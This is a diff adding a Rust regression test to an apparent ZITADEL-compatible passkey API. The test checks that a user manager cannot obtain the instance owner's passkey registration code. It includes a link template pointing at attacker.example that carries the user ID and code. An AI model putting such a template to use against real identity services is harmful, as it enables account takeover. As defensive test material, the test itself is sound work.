@@ -381,3 +381,31 @@ async fn with_supersede_on_a_new_link_revokes_the_outstanding_ones() {
     assert_eq!(event["supersededCodeIds"].as_l().unwrap().len(), 2);
     assert_eq!(h.user_sequence(ALICE).await, 3);
 }
+
+/// ZITADEL's v2 asks only for user.passkey.write, which IAM_USER_MANAGER holds: a user manager
+/// got a usable code (or a link to a host of its choice) for the instance owner's account.
+#[tokio::test]
+async fn v2_codes_in_the_callers_hands_need_user_credential_write() {
+    let h = Harness::new().await;
+    let manager = send_passkey_link::model::UserId::parse(NO_MAIL).unwrap();
+    h.table.put_instance_member(&manager, &["IAM_USER_MANAGER".into()]).await.unwrap();
+    let caller = Some((NO_MAIL, DEMO_ORG));
+    let attacker_template =
+        json!({"sendLink":{"urlTemplate":"https://attacker.example/c?u={{.UserID}}&c={{.Code}}"}});
+    for body in [json!({"returnCode":{}}), attacker_template] {
+        let (status, answer) = h.call(&request(&v2(INSTANCE_OWNER), caller, body.clone())).await;
+        assert_eq!((status, error_id(&answer)), (403, "AUTH-5mWD2"), "{body}: {answer}");
+        let mut connect = body.clone();
+        connect["userId"] = INSTANCE_OWNER.into();
+        let (status, answer) = h.call(&request(CONNECT_CREATE, caller, connect)).await;
+        assert_eq!((status, answer["code"].as_str()), (403, Some("permission_denied")), "{answer}");
+    }
+    assert_eq!(h.user_sequence(INSTANCE_OWNER).await, 0);
+    // Mailing the default link to the user's own address is what user.passkey.write allows.
+    let (status, answer) = h.call(&request(&v2(INSTANCE_OWNER), caller, json!({"sendLink":{}}))).await;
+    assert_eq!(status, 200, "{answer}");
+    // The user themself may still take the code.
+    let (status, answer) =
+        h.call(&request(&v2(ALICE), Some((ALICE, DEMO_ORG)), json!({"returnCode":{}}))).await;
+    assert_eq!(status, 200, "{answer}");
+}
